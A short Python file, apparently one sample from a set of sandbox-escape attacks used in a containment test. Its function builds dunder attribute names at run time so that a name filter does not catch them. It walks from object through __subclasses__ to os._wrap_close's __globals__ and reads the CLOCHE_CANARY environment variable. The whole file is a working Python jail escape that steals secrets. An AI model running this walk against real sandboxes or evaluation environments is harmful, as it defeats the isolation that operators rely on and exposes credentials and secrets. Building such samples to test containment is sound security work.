"""Class: attribute walk. Source: own find. Escape: the same walk with names built at run time."""


def attack(model, tokenizer, address):
    u = "_" * 2
    base = getattr(getattr((), u + "class" + u), u + "base" + u)
    subclasses = getattr(base, u + "subclasses" + u)()
    for cls in subclasses:
        if cls.__name__ == "_wrap_close":
            return getattr(cls.__init__, u + "globals" + u)["environ"]["CLOCHE_CANARY"]
